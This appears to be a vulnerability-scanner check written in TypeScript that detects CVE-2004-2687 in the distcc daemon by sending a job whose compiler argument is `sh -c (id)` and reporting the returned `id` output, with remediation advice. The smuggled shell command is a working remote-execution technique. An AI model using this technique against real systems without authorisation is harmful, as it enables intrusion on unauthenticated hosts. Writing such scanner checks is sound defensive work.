import { defineCheck } from '../kit.ts';
import { distccJob } from '../../proto/distcc.ts';
import { shown } from '../../proto/talk.ts';

/**
 * CVE-2004-2687 proven as nmap's distcc-cve2004-2687 proves it: a job whose
 * "compiler" is `sh -c id`, the rest of the command line (`# -c … -o …`)
 * left to the shell as arguments it ignores. `id` reads and changes
 * nothing, but it is a program of the scanner's choosing run on the
 * target: intrusive, advanced audits only. A distccd with its compiler
 * whitelist (3.3 and later) closes the connection and is not reported
 * here (vigil.distcc.open reports it).
 */
const ARGV = ['sh', '-c', '(id)', '#', '-c', 'vigil-scanner.c', '-o', 'vigil-scanner.o'];

export default defineCheck({
  id: 'vigil.distcc.exec',
  shortid: 'DISTCC-EXEC',
  title: 'distccd runs any command (CVE-2004-2687)',
  family: 'General',
  categories: ['intrusive', 'vuln', 'exploit'],
  risk: 'high',
  type: 'HOLE',
  qod: 99,
  cves: ['CVE-2004-2687'],
  description:
    'The distcc daemon ran `id` through a shell for the scanner: anyone who reaches the port runs any command as the distccd user, without credentials.',
  solution:
    'Upgrade to distcc 3.3 or later and keep its compiler whitelist on (no --enable-tcp-insecure or --make-me-a-botnet), start distccd with --allow listing only the build hosts, and firewall port 3632 from other networks.',
  references: ['https://distcc.github.io/security.html'],
  ports: { services: ['distccd', 'distcc'], ports: [3632] },
  run: async ({ net, port }) => {
    const r = await distccJob(net, port, ARGV);
    if (!r?.replied) return null;
    const uid = /uid=\d+\([^)]*\)[^\n]*/.exec(r.reply.sout);
    if (!uid) return null;
    return `A job whose command line is "${ARGV.join(' ')}" was answered with the output of id: "${shown(uid[0], 140)}".`;
  },
});
